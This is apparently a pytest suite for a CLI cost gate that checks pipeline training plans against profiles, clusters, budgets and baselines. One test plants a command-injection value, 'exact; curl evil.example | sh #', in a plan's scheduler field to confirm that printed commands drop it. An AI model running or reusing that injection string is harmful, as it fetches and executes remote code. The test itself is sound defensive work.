"""`heterps check` (the CI cost gate) and `heterps diff`, on the bundled plans and changed copies of the files."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from heterps_cli.cli.app import app
from heterps_cli.plan import make_plan
from heterps_cli.problem import load_problem
from tests.helpers import ROOT, runner

THREE_M = ("--min-throughput", "3000000")  # the job ctr-3m.yaml was planned for


def _check(*extra, plan="plans/ctr.yaml", expect=0, profile="profiles/ctr.yaml", cluster="clusters/paper.yaml", job=()):
    result = runner.invoke(app, ["check", plan, "--profile", profile, "--cluster", cluster, *job, *extra])
    assert result.exit_code == expect, result.output
    assert "Traceback" not in result.output
    return " ".join(result.output.split())


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


def test_a_fresh_plan_passes(files):
    shown = _check("--max-cost", "1", "--min-throughput", "150000", "--replan", "exact")
    assert "all checks passed" in shown


def test_renamed_layer_no_longer_fits(files):
    _edit(files / "profiles/ctr.yaml", "name: fc2", "name: fc2_wide")
    shown = _check(expect=1)
    assert "no longer fits" in shown and "fc2_wide" in shown and "heterps plan profiles/ctr.yaml" in shown


def test_removed_type_no_longer_fits(files):
    _edit(files / "clusters/paper.yaml", "v100:", "h100:")
    assert "'v100', which the cluster or profile no longer offers" in _check(expect=1)


def test_changed_timings_make_the_plan_stale(files):
    profile = yaml.safe_load((files / "profiles/ctr.yaml").read_text())
    profile["layers"][3]["times"]["v100"]["oct"] *= 1.5
    (files / "profiles/ctr.yaml").write_text(yaml.safe_dump(profile, sort_keys=False))
    shown = _check(expect=1)
    assert "figures are stale" in shown and "cost_usd" in shown and "refresh it: heterps plan" in shown


def test_a_lowered_limit_is_exceeded(files):
    _edit(files / "clusters/paper.yaml", "limit: 480", "limit: 20")
    assert "resource limits exceeded: cpu 35 > limit 20" in _check(expect=1)


def test_budget_and_throughput_gates(files):
    shown = _check("--max-cost", "0.5", expect=1)
    assert "exceeds the --max-cost $0.50 by $0.30 (60.0%)" in shown
    # no plan of the job costs $0.50 (the exact optimum is the committed $0.80): the fix says the budget
    # it needs, and suggests no heterps plan command, which would find no plan
    assert "no plan meets the job within $0.50: the cheapest costs $0.80" in shown and "heterps plan" not in shown
    assert "is under --min-throughput 2,000,000" in _check("--min-throughput", "2e6", expect=1)


def test_baseline_gate_on_a_stale_plan_says_to_refresh_before_the_diff(files):
    _edit(Path("clusters/paper.yaml"), "price: 2.42", "price: 3.10")
    shown = _check("--baseline", "plans/ctr.yaml", "--max-increase", "5%", expect=1)
    assert "$0.80 -> $0.943, +$0.142 (+17.8%)" in shown
    assert "refresh plans/ctr.yaml (heterps plan profiles/ctr.yaml clusters/paper.yaml --scheduler exact" in shown
    assert "then see where the cost rose: heterps diff plans/ctr.yaml plans/ctr.yaml" in shown


def test_baseline_gate(files):
    shown = _check(
        "--baseline", "plans/ctr.yaml", "--max-increase", "3%", plan="plans/ctr-3m.yaml", job=THREE_M, expect=1
    )
    assert "$0.80 -> $0.83, +$0.0294 (+3.7%); allowed increase 3%" in shown
    assert "heterps diff plans/ctr.yaml plans/ctr-3m.yaml" in shown
    _check("--baseline", "plans/ctr.yaml", "--max-increase", "5%", plan="plans/ctr-3m.yaml", job=THREE_M)
    _check("--baseline", "plans/ctr.yaml", "--max-increase", "$0.05", plan="plans/ctr-3m.yaml", job=THREE_M)
    assert "allowed increase $0.01" in _check(
        "--baseline", "plans/ctr.yaml", "--max-increase", "0.01usd", plan="plans/ctr-3m.yaml", job=THREE_M, expect=1
    )


def test_replan_finds_a_wasteful_plan(files):
    problem = load_problem("profiles/ctr.yaml", "clusters/paper.yaml")
    plan = yaml.safe_load((files / "plans/ctr.yaml").read_text())
    schedule = [s["resource"] for s in plan["stages"] for _ in range(s["first"], s["last"] + 1)]
    replicas = [s["replicas"] + 4 for s in plan["stages"]]  # more than the throughput needs
    wasteful = make_plan(problem, [problem.types.index(t) for t in schedule], replicas, scheduler="manual")
    (files / "plans/wasteful.yaml").write_text(yaml.safe_dump(wasteful.to_dict(), sort_keys=False))
    shown = _check("--replan", "exact", "--tolerance", "1%", plan="plans/wasteful.yaml", expect=1)
    assert "exact finds $0.80 against the plan's" in shown and "adopt it: heterps plan" in shown
    _check("--replan", "exact", "--tolerance", "99%", plan="plans/wasteful.yaml")


def test_replan_of_a_time_plan_looks_for_a_faster_one(files):
    problem = load_problem("profiles/ctr.yaml", "clusters/paper.yaml", objective="time")
    plan = yaml.safe_load((files / "plans/ctr.yaml").read_text())
    schedule = [s["resource"] for s in plan["stages"] for _ in range(s["first"], s["last"] + 1)]
    slow = make_plan(
        problem, [problem.types.index(t) for t in schedule], [s["replicas"] for s in plan["stages"]], scheduler="manual"
    )
    (files / "plans/slow.yaml").write_text(yaml.safe_dump(slow.to_dict(), sort_keys=False))
    shown = _check("--replan", "exact", plan="plans/slow.yaml", expect=1, job=("--objective", "time"))
    assert "exact finds" in shown and "samples/s against the plan's 1,326,103" in shown and "faster" in shown
    assert "--objective time" in shown  # the fix re-plans with the plan's own objective


def test_bad_files_exit_2(files):
    assert "plans/nope.yaml: file not found" in _check(plan="plans/nope.yaml", expect=2)
    _edit(files / "plans/ctr.yaml", "cost_usd:", "cost_usdd:")
    shown = _check(expect=2)
    assert "plans/ctr.yaml:" in shown and "cost_usdd" in shown
    assert "--max-increase" in _check(
        "--baseline", "plans/ctr-3m.yaml", "--max-increase", "lots", plan="plans/ctr-3m.yaml", job=THREE_M, expect=2
    )


@pytest.mark.parametrize("flag, value", [("--max-increase", "10"), ("--tolerance", "1.0"), ("--max-increase", "$5%")])
def test_a_figure_without_its_unit_is_refused(files, flag, value):
    # "--max-increase 10" was dollars while "--tolerance 1.0" was percent: a +145% rise once passed.
    shown = _check("--baseline", "plans/ctr.yaml", "--replan", "greedy", flag, value, expect=2)
    assert flag in shown and "%" in shown


def test_units_as_written(files):
    old = ("--baseline", "plans/ctr.yaml", "--max-increase")
    _check(*old, "$0.03", plan="plans/ctr-3m.yaml", job=THREE_M)  # +$0.0294
    _check(*old, "0.02usd", plan="plans/ctr-3m.yaml", job=THREE_M, expect=1)
    _check(*old, "4%", plan="plans/ctr-3m.yaml", job=THREE_M)  # +3.7%
    _check(*old, "3%", plan="plans/ctr-3m.yaml", job=THREE_M, expect=1)
    _check("--max-increase", "0", "--tolerance", "0")


def test_markdown_report(runner, files):
    result = runner.invoke(
        app,
        [
            "check",
            "plans/ctr.yaml",
            "--profile",
            "profiles/ctr.yaml",
            "--cluster",
            "clusters/paper.yaml",
            "--max-cost",
            "0.5",
            "--format",
            "markdown",
        ],
    )
    assert result.exit_code == 1
    lines = result.stdout.splitlines()
    assert lines[0] == "### heterps check: `plans/ctr.yaml` — ❌ 1 check failed"
    assert "| | check | result | fix |" in lines
    assert any(line.startswith("| ❌ | max-cost | cost $0.80 exceeds") for line in lines)
    assert any(line.startswith("| ✅ | fresh |") for line in lines)


def test_github_annotations_and_step_summary(runner, files, monkeypatch):
    summary = files / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    result = runner.invoke(
        app,
        [
            "check",
            "plans/ctr-3m.yaml",
            "--profile",
            "profiles/ctr.yaml",
            "--cluster",
            "clusters/paper.yaml",
            *THREE_M,
            "--baseline",
            "plans/ctr.yaml",
            "--max-increase",
            "1%",
            "--format",
            "github",
        ],
    )
    assert result.exit_code == 1
    first = result.stdout.splitlines()[0]
    assert first.startswith("::error file=plans/ctr-3m.yaml,title=heterps check baseline::cost $0.80 -> $0.83")
    assert "(+3.7%25)" in first  # GitHub's escaping of %
    assert "### heterps check" in summary.read_text()


def test_json_report(runner, files):
    result = runner.invoke(
        app,
        [
            "check",
            "plans/ctr.yaml",
            "--profile",
            "profiles/ctr.yaml",
            "--cluster",
            "clusters/paper.yaml",
            "--format",
            "json",
        ],
    )
    report = json.loads(result.stdout)
    assert report["passed"] and {f["gate"] for f in report["findings"]} == {"fits", "job", "fresh", "limits", "optimal"}
    # the file's word: the gate says it did not verify it
    assert [f["status"] for f in report["findings"] if f["gate"] == "optimal"] == ["warn"]


def test_diff_of_the_bundled_plans_shows_the_cost_change(runner, files):
    result = runner.invoke(app, ["diff", "plans/ctr.yaml", "plans/ctr-3m.yaml"])
    assert result.exit_code == 0, result.output
    assert "+$0.0294 (+3.7%)" in result.stdout and "cost USD" in result.stdout
    result = runner.invoke(app, ["diff", "plans/ctr.yaml", "plans/ctr-3m.yaml", "--format", "markdown"])
    assert "| cost USD | $0.80 | $0.83 | +$0.0294 (+3.7%) |" in result.stdout
    changes = {
        c["what"]: c
        for c in json.loads(
            runner.invoke(app, ["diff", "plans/ctr.yaml", "plans/ctr-3m.yaml", "--format", "json"]).stdout
        )["changes"]
    }
    assert changes["v100 units"]["delta"] == 2


def test_diff_pairs_stages_by_their_layers_when_one_is_inserted(runner, files):
    old = ROOT / "tests/data/ctr-plan-before-1b.yaml"  # stages shown by layers, types and replicas alone
    Path("plans/old.yaml").write_text(old.read_text())
    plan = yaml.safe_load(old.read_text())
    gpu = plan["stages"][1]
    split = [
        dict(gpu, last=4, layers=gpu["layers"][:3]),
        dict(gpu, first=5, last=5, layers=gpu["layers"][3:4], resource="cpu"),
        dict(gpu, first=6, layers=gpu["layers"][4:]),
    ]
    plan["stages"][1:2] = split
    plan["resources"]["cpu"] += 1
    Path("plans/split.yaml").write_text(yaml.safe_dump(plan, sort_keys=False))
    result = runner.invoke(app, ["diff", "plans/old.yaml", "plans/split.yaml", "--format", "json"])
    assert result.exit_code == 0, result.output
    rows = [
        (c["what"], c["old"], c["new"]) for c in json.loads(result.stdout)["changes"] if c["what"].startswith("stage")
    ]
    assert rows == [
        ("stage 0", "0-1 on cpu x34", "0-1 on cpu x34"),
        ("stage 1", "2-7 on v100 x1", "2-4 on v100 x1"),
        ("stage 2 (new)", "—", "5-5 on cpu x1"),
        ("stage 3 (new)", "—", "6-7 on v100 x1"),
        ("stage 2 → 4", "8-9 on cpu x1", "8-9 on cpu x1"),
    ]


# -- the gate's truth is the profile, the cluster and the command line (issue 13) --------


def test_a_plan_for_fewer_samples_does_not_pass_the_budget(runner, files):
    runner.invoke(
        app,
        [
            "plan",
            "profiles/ctr.yaml",
            "clusters/paper.yaml",
            "-s",
            "exact",
            "--samples",
            "1000",
            "--out",
            "plans/small.yaml",
        ],
    )
    shown = _check("--max-cost", "0.01", "--replan", "exact", plan="plans/small.yaml", expect=1)
    assert (
        "✗ FAIL job the plan was made for another job than the files and flags give: samples 1,000 in the plan, "
        "1,000,000,000 now" in shown
    )
    assert "exceeds the --max-cost $0.01" in shown  # the cost of this job, not of the plan's 1,000 samples


def test_doubling_the_profiles_samples_makes_the_committed_plan_stale(files):
    _edit(Path("profiles/ctr.yaml"), "samples: 1000000000", "samples: 2000000000")
    shown = _check("--max-cost", "1.00", expect=1)
    assert "samples 1,000,000,000 in the plan, 2,000,000,000 now" in shown
    assert "cost $1.60 exceeds the --max-cost $1.00" in shown


def test_a_budget_written_into_the_plan_cannot_turn_a_failure_into_a_pass(files):
    wasteful = _replicas_plus(files, 4)
    data = yaml.safe_load(wasteful.read_text())
    data["max_cost"] = 0.5 * data["cost_usd"]  # exact would find nothing under it, and "the plan stands"
    wasteful.write_text(yaml.safe_dump(data, sort_keys=False))
    shown = _check("--replan", "exact", plan=str(wasteful), expect=1)
    assert "max_cost" in shown and "in the plan, none now" in shown and "exact finds $0.80 against" in shown


def test_an_objective_other_than_the_flags_is_stale(files):
    _edit(Path("plans/ctr.yaml"), "objective: cost", "objective: time")
    assert "objective 'time' in the plan, 'cost' now" in _check(expect=1)


def test_a_false_optimal_claim_and_an_infeasible_plan_fail(files):
    wasteful = _replicas_plus(files, 4)
    _edit(wasteful, "optimal: null", "optimal: true")
    shown = _check("--replan", "exact", "--tolerance", "99%", plan=str(wasteful), expect=1)
    assert "✗ FAIL optimal the plan says it is optimal, but exact finds one" in shown
    _edit(Path("plans/ctr.yaml"), "feasible: true", "feasible: false")
    assert "the plan file itself says it is infeasible" in _check(expect=1)


def test_model_and_cluster_names_are_checked(files):
    _edit(Path("plans/ctr.yaml"), "model: ctr", "model: other")
    _edit(Path("plans/ctr.yaml"), "cluster: paper", "cluster: elsewhere")
    shown = _check(expect=1)
    assert "model 'other' in the plan, 'ctr' now" in shown and "cluster 'elsewhere' in the plan, 'paper' now" in shown


def test_printed_commands_hold_only_known_schedulers_and_quoted_paths(files):
    _edit(Path("plans/ctr.yaml"), "scheduler: exact", "scheduler: 'exact; curl evil.example | sh #'")
    Path("plans/my plan.yaml").write_text(Path("plans/ctr.yaml").read_text())
    _edit(Path("clusters/paper.yaml"), "price: 2.42", "price: 3.10")  # stale: the fix is printed
    shown = _check(plan="plans/my plan.yaml", expect=1)
    assert "curl" not in shown and "--scheduler exact" in shown and "--out 'plans/my plan.yaml'" in shown


def _replicas_plus(files: Path, extra: int) -> Path:
    problem = load_problem("profiles/ctr.yaml", "clusters/paper.yaml")
    plan = yaml.safe_load((files / "plans/ctr.yaml").read_text())
    schedule = [s["resource"] for s in plan["stages"] for _ in range(s["first"], s["last"] + 1)]
    made = make_plan(
        problem,
        [problem.types.index(t) for t in schedule],
        [s["replicas"] + extra for s in plan["stages"]],
        scheduler="manual",
    )
    path = files / "plans/wasteful.yaml"
    path.write_text(yaml.safe_dump(made.to_dict(), sort_keys=False))
    return path


@pytest.mark.parametrize("dropped", [["nodes"], ["nodes", "rental"]], ids=["stages' nodes", "and the rental"])
def test_a_plan_on_nodes_that_drops_where_it_runs_is_stale(tmp_path, dropped):
    """A plan without its stages' nodes would launch on one machine: on a cluster of nodes it is stale."""
    root = Path(__file__).parent.parent
    plan = yaml.safe_load((root / "docs/plans/ctr-aws-p3.yaml").read_text())
    for stage in plan["stages"]:
        stage.pop("nodes")
    for key in set(dropped) - {"nodes"}:
        plan.pop(key)
    (tmp_path / "plan.yaml").write_text(yaml.safe_dump(plan))
    args = ["--profile", str(root / "profiles/ctr.yaml"), "--cluster", str(root / "clusters/aws-p3-nodes.yaml")]
    checked = runner.invoke(app, ["check", str(tmp_path / "plan.yaml"), *args])
    shown = " ".join(checked.output.split())
    assert checked.exit_code == 1 and "stages[0].nodes none -> {'p3.2xlarge#1': 4" in shown, shown
